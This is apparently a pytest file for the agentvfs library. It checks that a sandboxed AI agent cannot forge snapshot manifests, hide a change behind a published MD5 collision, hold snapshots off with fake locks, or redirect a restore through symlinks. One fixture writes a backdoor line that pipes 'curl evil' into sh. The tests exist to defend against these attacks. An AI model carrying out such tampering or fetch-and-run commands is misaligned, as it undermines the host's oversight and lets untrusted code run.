"""What an agent that can write the snapshot store, or the workspace, must not be able to do
to the host's snapshots: forge a manifest or a "latest" one, hide a change behind an MD5
collision, hold snapshots off with a lock, or keep a directory it replaced by a link.

The agent's writes go through its own tools (``write_file``) or straight to storage (boto3,
the disk), as a command in its sandbox would make them; the host's side is the workspace's
API.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import anyio
import pytest

from agentvfs import FsspecFilesystem, LocalFilesystem, Workspace
from agentvfs.errors import BlobIntegrityError
from agentvfs.snapshots import (
    DEFAULT_PREFIX,
    KEY_FILE_ENV,
    FileRecord,
    Snapshot,
    SnapshotKey,
    SnapshotStore,
    default_key_file,
    take_snapshot,
)
from agentvfs.snapshots._tree import version_kind, vouches
from agentvfs.testing import MotoServer
from agentvfs.tools import WORKSPACE_TOOLS, WorkspaceTool
from agentvfs.vfs import SETTLE_SECONDS, BackendFilesystem, FileStat, MemoryBackend, sha256_hex
from conftest import S3_BUCKET, unique

pytestmark = pytest.mark.anyio

FS = WORKSPACE_TOOLS.FILESYSTEM

#: Two 128-byte blocks with one MD5 (Wang et al., 2004): on S3 without versioning, the ETag
#: of either is the same.
COLLISION_A = bytes.fromhex(
    "d131dd02c5e6eec4693d9a0698aff95c2fcab58712467eab4004583eb8fb7f89"
    "55ad340609f4b30283e488832571415a085125e8f7cdc99fd91dbdf280373c5b"
    "d8823e3156348f5bae6dacd436c919c6dd53e2b487da03fd02396306d248cda0"
    "e99f33420f577ee8ce54b67080a80d1ec69821bcb6a8839396f9652b6ff72a70"
)
COLLISION_B = bytes.fromhex(
    "d131dd02c5e6eec4693d9a0698aff95c2fcab50712467eab4004583eb8fb7f89"
    "55ad340609f4b30283e4888325f1415a085125e8f7cdc99fd91dbd7280373c5b"
    "d8823e3156348f5bae6dacd436c919c6dd53e23487da03fd02396306d248cda0"
    "e99f33420f577ee8ce54b67080280d1ec69821bcb6a8839396f965ab6ff72a70"
)


def test_the_collision_is_one() -> None:
    assert COLLISION_A != COLLISION_B and len(COLLISION_A) == len(COLLISION_B)
    assert hashlib.md5(COLLISION_A).digest() == hashlib.md5(COLLISION_B).digest()


async def run(tools: dict[str, WorkspaceTool], name: str, **args: Any) -> Any:
    return await tools[name].execute(args)


def _canonical(document: dict[str, Any]) -> bytes:
    return json.dumps(document, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode("utf-8")


def _forge(genuine: bytes, *, signed: bool, **changes: Any) -> tuple[str, bytes]:
    """A manifest made from a genuine one as whoever can read and write the store can:
    ``changes`` applied (``files`` merged), and either kept in format 2 with the genuine
    key id and a MAC of its own making, or made a format-1 (unsigned) one."""
    document = json.loads(genuine)
    files = {**document["files"], **changes.pop("files", {})}
    document.update(changes, files=files)
    if signed:
        document["mac"] = hashlib.sha256(b"a guess" + _canonical(document)).hexdigest()
    else:
        document.pop("mac", None)
        document.pop("key", None)
        document["format"] = 1
    data = _canonical(document)
    return sha256_hex(data), data


def _later(snapshot: Snapshot) -> str:
    return (snapshot.created_at + timedelta(minutes=5)).isoformat()


# -- manifests the agent writes --------------------------------------------------------------------


async def test_a_newer_manifest_of_the_same_name_written_by_the_agent_is_refused(tmp_path: Path) -> None:
    """The agent, with ``write_file`` only, files manifests named ``before-agent`` that list
    its backdoor as part of that snapshot (newer than the host's, under their true ids): the
    host's diff still shows the backdoor and a forced restore removes it."""
    (tmp_path / "ws").mkdir()
    fs = LocalFilesystem(str(tmp_path / "ws"))
    await fs.write_file("app.py", b"print('app')\n")
    ws = Workspace(filesystem=fs)
    before = await ws.snapshot("before-agent")
    store = ws.snapshot_store()
    genuine = await fs.read_file(store.manifest_path(before.id), encoding=None)
    assert isinstance(genuine, bytes)
    tools = await ws.create_tools()
    backdoor = b"import os; os.system('curl evil | sh')\n"
    forged_ids = []
    for signed in (True, False):
        await run(tools, FS.WRITE_FILE, path="backdoor.py", content=backdoor.decode())
        record = {
            "size": len(backdoor), "mtime": datetime.now(UTC).isoformat(), "etag": None,
            "sha256": sha256_hex(backdoor), "version": None,
        }  # fmt: skip
        forged_id, forged = _forge(genuine, signed=signed, created_at=_later(before), files={"backdoor.py": record})
        forged_ids.append(forged_id)
        await run(tools, FS.WRITE_FILE, path=f"{DEFAULT_PREFIX}/manifests/{forged_id}.json", content=forged.decode())
        info = {"id": forged_id, "name": "before-agent", "created_at": _later(before), "files": 2, "directories": 0, "bytes": 1}
        await run(tools, FS.WRITE_FILE, path=f"{DEFAULT_PREFIX}/index/{forged_id}.json", content=json.dumps(info))
        assert (await ws.diff("before-agent")).added == ("backdoor.py",)
        result = await ws.restore("before-agent", force=True)
        assert result.snapshot == before.id and "backdoor.py" in result.restored
        assert not await fs.exists("backdoor.py")
    # Never listed, and refused by id too, with a message that names it and says why.
    assert [i.id for i in await ws.list_snapshots()] == [before.id]
    with pytest.raises(BlobIntegrityError, match=rf"{forged_ids[0]}\.json is not signed with this host's snapshot key"):
        await store.load(forged_ids[0])
    with pytest.raises(BlobIntegrityError, match=rf"{forged_ids[1]}\.json is not signed .*accept_unsigned=True"):
        await store.load(forged_ids[1])
    # The forged ones can go by id; the host's snapshot stays.
    for forged_id in forged_ids:
        assert await ws.delete_snapshot(forged_id) == forged_id
    assert (await store.resolve("before-agent")).id == before.id


async def test_unsigned_manifests_of_an_earlier_version_are_read_only_when_asked_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fs = BackendFilesystem(MemoryBackend())
    await fs.write_file("a.txt", b"one\n")
    store = SnapshotStore(fs, prefix=DEFAULT_PREFIX)
    # A snapshot as an earlier agentvfs kept it: a format-1 manifest, no MAC anywhere.
    old, manifest = Snapshot.create(
        name="old", created_at=datetime.now(UTC) - timedelta(days=1), storage=fs.location, root=None,
        content="blobs", files={}, directories=set(), links={},
    )  # fmt: skip
    await fs.write_file(store.manifest_path(old.id), manifest)
    await fs.write_file(f"{DEFAULT_PREFIX}/index/{old.id}.json", json.dumps(old.info().to_dict()))
    assert await store.list() == []
    with pytest.raises(BlobIntegrityError, match="not signed"):
        await store.resolve(old.id)
    trusting = SnapshotStore(fs, prefix=DEFAULT_PREFIX, accept_unsigned=True)
    assert [i.id for i in await trusting.list()] == [old.id]
    assert (await trusting.resolve("old")).id == old.id
    # A signed snapshot of the same name wins, however old; an unsigned one is never the base
    # of the next snapshot.
    signed = await take_snapshot(fs, trusting, name="old")
    newer, manifest = Snapshot.create(
        name="old", created_at=datetime.now(UTC) + timedelta(days=1), storage=fs.location, root=None,
        content="blobs", files={}, directories=set(), links={},
    )  # fmt: skip
    await fs.write_file(trusting.manifest_path(newer.id), manifest)
    assert (await trusting.resolve("old")).id == signed.id
    assert (await trusting.latest()) == await trusting.load(signed.id)
    # The environment says the same for programs that cannot pass the argument (the CLI).
    monkeypatch.setenv("AGENTVFS_SNAPSHOT_ACCEPT_UNSIGNED", "1")
    assert SnapshotStore(fs, prefix=DEFAULT_PREFIX).accept_unsigned


async def test_the_key_is_private_to_its_user_and_shared_by_its_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AGENTVFS_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.delenv(KEY_FILE_ENV, raising=False)
    fs = BackendFilesystem(MemoryBackend())
    await fs.write_file("a.txt", b"a\n")
    taken = await take_snapshot(fs)
    path = default_key_file()
    assert path == str(tmp_path / "state" / "snapshot.key")
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600 and stat.S_IMODE(os.stat(tmp_path / "state").st_mode) == 0o700
    # Another process of the user (the CLI, a program) finds the same key.
    assert (await SnapshotStore(fs, prefix=DEFAULT_PREFIX).load(taken.id)).id == taken.id
    # A host with another key refuses the snapshot, naming both keys; given the first
    # host's key file, it reads it.
    other = SnapshotStore(fs, prefix=DEFAULT_PREFIX, key=tmp_path / "other.key")
    mine = SnapshotKey.from_file(path)
    with pytest.raises(BlobIntegrityError, match=rf"{other.key.id}.*names key {mine.id}"):
        await other.load(taken.id)
    assert (await SnapshotStore(fs, prefix=DEFAULT_PREFIX, key=path).load(taken.id)).id == taken.id
    monkeypatch.setenv(KEY_FILE_ENV, str(tmp_path / "other.key"))
    assert SnapshotStore(fs, prefix=DEFAULT_PREFIX).key.id == other.key.id
    # A key others may read is refused, with the fix.
    os.chmod(path, 0o644)
    with pytest.raises(PermissionError, match=r"may be read or written by other users \(mode 0644\).*chmod 600"):
        SnapshotKey.from_file(path)
    (tmp_path / "bad.key").write_text("not hex\n")
    os.chmod(tmp_path / "bad.key", 0o600)
    with pytest.raises(ValueError, match="does not hold a key"):
        SnapshotKey.from_file(tmp_path / "bad.key")
    with pytest.raises(ValueError, match="at least 16"):
        SnapshotKey(b"short")
    # Processes making the key at once all end up with one key.
    fresh = tmp_path / "race" / "snapshot.key"
    made: list[str] = []

    async def make() -> None:
        made.append((await anyio.to_thread.run_sync(SnapshotKey.from_file, fresh)).id)

    async with anyio.create_task_group() as tg:
        for _ in range(8):
            tg.start_soon(make)
    assert len(set(made)) == 1 and sorted(os.listdir(fresh.parent)) == ["snapshot.key"]


# -- a forged "latest" ----------------------------------------------------------------------------


@pytest.mark.s3
async def test_a_forged_latest_manifest_lends_no_hash_to_the_next_snapshot(moto: MotoServer) -> None:
    """On S3 the agent can compute its file's ETag (an MD5): with ``write_file`` alone it
    rewrites a file, then files a newest manifest claiming that version holds the old
    content. The host's next snapshot records what the file holds."""
    fs = FsspecFilesystem(moto.s3fs(use_listings_cache=False), root=f"{S3_BUCKET}/{unique('ws')}")
    old, new = b"print('reviewed')\n", b"print('backdoor')\n"
    await fs.write_file("app.py", old)
    ws = Workspace(filesystem=fs)
    base = await ws.snapshot("base")
    tools = await ws.create_tools()
    await run(tools, FS.WRITE_FILE, path="app.py", content=new.decode())
    now = await fs.stat("app.py")
    assert now.etag == hashlib.md5(new).hexdigest()  # what the agent can work out by itself
    genuine = await fs.read_file(ws.snapshot_store().manifest_path(base.id), encoding=None)
    assert isinstance(genuine, bytes)
    # Its record would vouch for the old hash had the host written it: same ETag, size and
    # time, the time settled long before the manifest's own.
    lie = {"size": len(new), "mtime": now.modified_at.isoformat(), "etag": now.etag, "sha256": sha256_hex(old), "version": None}
    later = (now.modified_at + timedelta(hours=1)).isoformat()
    for signed in (True, False):
        forged_id, forged = _forge(genuine, signed=signed, name=None, created_at=later, files={"app.py": lie})
        await run(tools, FS.WRITE_FILE, path=f"{DEFAULT_PREFIX}/manifests/{forged_id}.json", content=forged.decode())
    taken = await ws.snapshot()
    assert taken.files["app.py"].sha256 == sha256_hex(new)
    assert (await ws.diff(base.id, taken.id)).changed == ("app.py",)


# -- the same ETag, other bytes ------------------------------------------------------------------


def _s3_workspace(moto: MotoServer, **options: Any) -> tuple[Workspace, FsspecFilesystem, Any, str]:
    prefix = unique("ws")
    fs = FsspecFilesystem(moto.s3fs(use_listings_cache=False), root=f"{S3_BUCKET}/{prefix}", **options)
    return Workspace(filesystem=fs), fs, moto.boto3_client(), prefix


@pytest.mark.s3
async def test_bytes_of_the_same_md5_are_a_change_to_diff_restore_and_the_next_snapshot(
    moto: MotoServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    from agentvfs.snapshots import _take, _tree

    ws, fs, boto, prefix = _s3_workspace(moto)
    key = f"{prefix}/tool.bin"
    boto.put_object(Bucket=S3_BUCKET, Key=key, Body=COLLISION_A)
    await anyio.sleep(SETTLE_SECONDS + 1.1)  # long written: its ETag, size and time vouch for it
    before = await ws.snapshot("before-agent")
    reads: list[str] = []
    real = _tree.read_live

    async def counted(fs: Any, stat: Any) -> bytes:
        reads.append(stat.path)
        return await real(fs, stat)

    monkeypatch.setattr(_take, "read_live", counted)
    assert (await ws.snapshot()).files == before.files
    assert reads == []  # unchanged, and known so without a read
    # Rewritten by the agent with colliding bytes: the ETag stays, the time moves.
    boto.put_object(Bucket=S3_BUCKET, Key=key, Body=COLLISION_B)
    assert (await fs.stat("tool.bin")).etag == before.files["tool.bin"].etag
    assert (await ws.diff("before-agent")).changed == ("tool.bin",)
    after = await ws.snapshot("after-agent")
    assert after.files["tool.bin"].sha256 == sha256_hex(COLLISION_B)
    assert (await ws.diff("before-agent", "after-agent")).changed == ("tool.bin",)
    result = await ws.restore("before-agent", force=True)
    assert result.restored == ("tool.bin",)
    assert await fs.read_file("tool.bin", encoding=None) == COLLISION_A
    assert reads == ["tool.bin"]  # the snapshot after the rewrite read it


@pytest.mark.s3
async def test_bytes_of_the_same_md5_written_in_the_same_second_are_a_change(moto: MotoServer) -> None:
    """Written in the very second the snapshot saw (its time equal to the second): the
    snapshot listed a time too recent to vouch for anything, so the file is read."""
    ws, fs, boto, prefix = _s3_workspace(moto)
    key = f"{prefix}/tool.bin"
    for _ in range(10):
        boto.put_object(Bucket=S3_BUCKET, Key=key, Body=COLLISION_A)
        first = boto.head_object(Bucket=S3_BUCKET, Key=key)["LastModified"]
        await ws.snapshot("before-agent")
        boto.put_object(Bucket=S3_BUCKET, Key=key, Body=COLLISION_B)
        if boto.head_object(Bucket=S3_BUCKET, Key=key)["LastModified"] == first:
            break
    else:
        pytest.fail("no two writes within one second in ten tries")
    assert (await ws.diff("before-agent")).changed == ("tool.bin",)
    assert (await ws.snapshot()).files["tool.bin"].sha256 == sha256_hex(COLLISION_B)
    assert (await ws.restore("before-agent", force=True)).restored == ("tool.bin",)
    assert await fs.read_file("tool.bin", encoding=None) == COLLISION_A


def test_what_vouches_for_a_file_without_reading_it() -> None:
    when = datetime(2026, 1, 1, 12, 0, 0, tzinfo=UTC)
    record = FileRecord("f", 128, when, "79054025255fb1a26e4bc422aef54eb4", "0" * 64)

    def stat_of(etag: str | None, moment: datetime, size: int = 128) -> FileStat:
        return FileStat("f", "f", "file", size, moment, moment, etag=etag)

    settled = when + timedelta(seconds=SETTLE_SECONDS + 1)
    same = stat_of(record.etag, when)
    assert vouches(record, settled, same, "digests")
    assert not vouches(record, when + timedelta(seconds=1), same, "digests")  # too fresh when listed
    assert not vouches(record, settled, stat_of(record.etag, when + timedelta(seconds=1)), "digests")
    assert not vouches(record, settled, stat_of(record.etag, when, 129), "digests")
    assert vouches(record, settled, stat_of(record.etag, when + timedelta(seconds=9)), "versions")
    assert not vouches(record, settled, same, "none")
    multipart = FileRecord("f", 128, when, "79054025255fb1a26e4bc422aef54eb4-2", "0" * 64)
    assert not vouches(multipart, settled, stat_of(multipart.etag, when), "digests")  # its time is its upload's start
    assert version_kind(BackendFilesystem(MemoryBackend())) == "versions"


# -- locks from storage --------------------------------------------------------------------------


def _age(path: Path, seconds: float) -> None:
    then = time.time() - seconds
    os.utime(path, (then, then))


async def test_a_forged_lock_holds_nothing_off_for_long(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    fs = LocalFilesystem(str(tmp_path))
    await fs.write_file("a.txt", b"a\n")
    locks = tmp_path / DEFAULT_PREFIX / "locks"
    forged = {"at": time.time(), "host": "elsewhere", "pid": 1, "stale_after": 1e12}
    claim = f"{DEFAULT_PREFIX}/locks/gc-0123456789abcdef.json"
    await fs.write_file(claim, json.dumps(forged).encode())
    # A fresh claim the agent keeps rewriting: a snapshot waits for it only as long as it is
    # willing to wait, once; the next ones of the store do not wait.
    store = SnapshotStore(fs, prefix=DEFAULT_PREFIX, lock_wait=8.0)
    started = time.monotonic()
    await take_snapshot(fs, store)
    assert store.lock_wait <= time.monotonic() - started < store.lock_wait + 20
    assert "gc-0123456789abcdef.json, not signed with this store's key" in caplog.text
    started = time.monotonic()
    await take_snapshot(fs, store)
    assert time.monotonic() - started < store.lock_wait  # a one-file snapshot that did not wait
    # Left in place (not renewed) for longer than the reader's stale_after, whatever it
    # claims: stale, and removed by the next collection.
    _age(locks / "gc-0123456789abcdef.json", 11 * 60)
    started = time.monotonic()
    await take_snapshot(fs, SnapshotStore(fs, prefix=DEFAULT_PREFIX, lock_wait=60))
    assert time.monotonic() - started < 20
    # A lease of a snapshot, the same: a collection waits for it no longer.
    lease = locks / "snapshot-0123456789abcdef.json"
    lease.write_text(json.dumps(forged))
    _age(lease, 11 * 60)
    await SnapshotStore(fs, prefix=DEFAULT_PREFIX, lock_wait=60).collect_garbage()
    assert sorted(os.listdir(locks)) == []


async def test_a_signed_lock_holds_others_off_no_longer_than_the_ceiling(tmp_path: Path) -> None:
    """A host's own lock may claim a longer stale_after than the reader's (its holder's
    setting), up to max_stale_after."""
    fs = LocalFilesystem(str(tmp_path))
    holder = SnapshotStore(fs, prefix=DEFAULT_PREFIX, stale_after=timedelta(days=365), max_stale_after=timedelta(days=365))
    reader = SnapshotStore(fs, prefix=DEFAULT_PREFIX, lock_wait=0.5, stale_after=timedelta(seconds=1))
    async with holder.taking():
        [lease] = (tmp_path / DEFAULT_PREFIX / "locks").iterdir()
        _age(lease, 30 * 60)  # half an hour since its last renewal: within its claim
        with pytest.raises(TimeoutError, match="locks/snapshot-"):
            await reader.collect_garbage()
        _age(lease, 2 * 3600)  # longer than MAX_STALE_AFTER (an hour)
        await reader.collect_garbage()
    with pytest.raises(ValueError, match="max_stale_after"):
        SnapshotStore(fs, stale_after=timedelta(hours=2))


async def test_a_forged_lock_does_not_stop_checkpointed_writes(monkeypatch: pytest.MonkeyPatch) -> None:
    from agentvfs.tools import _checkpoints

    monkeypatch.setattr(_checkpoints, "LOCK_WAIT", 0.5)
    undo = WORKSPACE_TOOLS.CHECKPOINTS.UNDO
    ws = Workspace(filesystem=BackendFilesystem(MemoryBackend()), tools={"checkpoints": True, undo: {"enabled": True}})
    await ws.init()
    tools = await ws.create_tools()
    forged = {"at": time.time(), "host": "elsewhere", "pid": 1, "stale_after": 1e12}
    await run(tools, FS.WRITE_FILE, path=f"{DEFAULT_PREFIX}/locks/gc-0123456789abcdef.json", content=json.dumps(forged))
    for i in range(3):
        await run(tools, FS.LIST_FILES, path="")  # each write a batch of its own
        await run(tools, FS.WRITE_FILE, path=f"f{i}.txt", content=str(i))
    assert "Undid 1 write tool call" in await run(tools, undo)
    assert not await ws.filesystem.exists("f2.txt")  # type: ignore[union-attr]
    await ws.destroy()


# -- a directory the agent replaced by a link ------------------------------------------------------


async def test_a_forced_restore_brings_back_a_directory_replaced_by_a_link(tmp_path: Path) -> None:
    root, outside = tmp_path / "ws", tmp_path / "outside"
    (root / "src").mkdir(parents=True)
    (root / "inner").mkdir()
    outside.mkdir()
    (outside / "keep.txt").write_text("host file\n")
    (root / "src" / "app.py").write_text("print('app')\n")
    (root / "docs").mkdir()
    (root / "docs" / "a.md").write_text("# a\n")
    fs = LocalFilesystem(str(root))
    ws = Workspace(filesystem=fs)
    await ws.snapshot("before-agent")
    # The agent: one directory becomes a link out of the root, another a link to a directory
    # inside it.
    os.rename(root / "src", tmp_path / "src-moved")
    os.symlink(outside, root / "src")
    os.rename(root / "docs", tmp_path / "docs-moved")
    os.symlink("inner", root / "docs")
    # Without force: both links are kept, and nothing is written through them.
    kept = await ws.restore("before-agent")
    assert {c.path: c.reason for c in kept.conflicts} == {
        "docs": "type", "docs/a.md": "type", "src": "type", "src/app.py": "type",
    }  # fmt: skip
    assert sorted(os.listdir(outside)) == ["keep.txt"] and os.listdir(root / "inner") == []
    result = await ws.restore("before-agent", force=True)
    assert result.complete and set(result.restored) >= {"src", "src/app.py", "docs", "docs/a.md"}
    assert not (root / "src").is_symlink() and (root / "src" / "app.py").read_text() == "print('app')\n"
    assert not (root / "docs").is_symlink() and (root / "docs" / "a.md").read_text() == "# a\n"
    assert sorted(os.listdir(outside)) == ["keep.txt"] and (outside / "keep.txt").read_text() == "host file\n"
    assert os.listdir(root / "inner") == []  # nothing went through the link to it
    assert not (await ws.diff("before-agent")).changes


async def test_a_link_out_of_the_root_can_be_deleted(tmp_path: Path) -> None:
    (tmp_path / "ws").mkdir()
    (tmp_path / "out").mkdir()
    os.symlink(tmp_path / "out", tmp_path / "ws" / "away")
    fs = LocalFilesystem(str(tmp_path / "ws"))
    await fs.delete_file("away")
    assert not os.path.lexists(tmp_path / "ws" / "away") and (tmp_path / "out").is_dir()
    with pytest.raises(FileNotFoundError):
        await fs.delete_file("away")
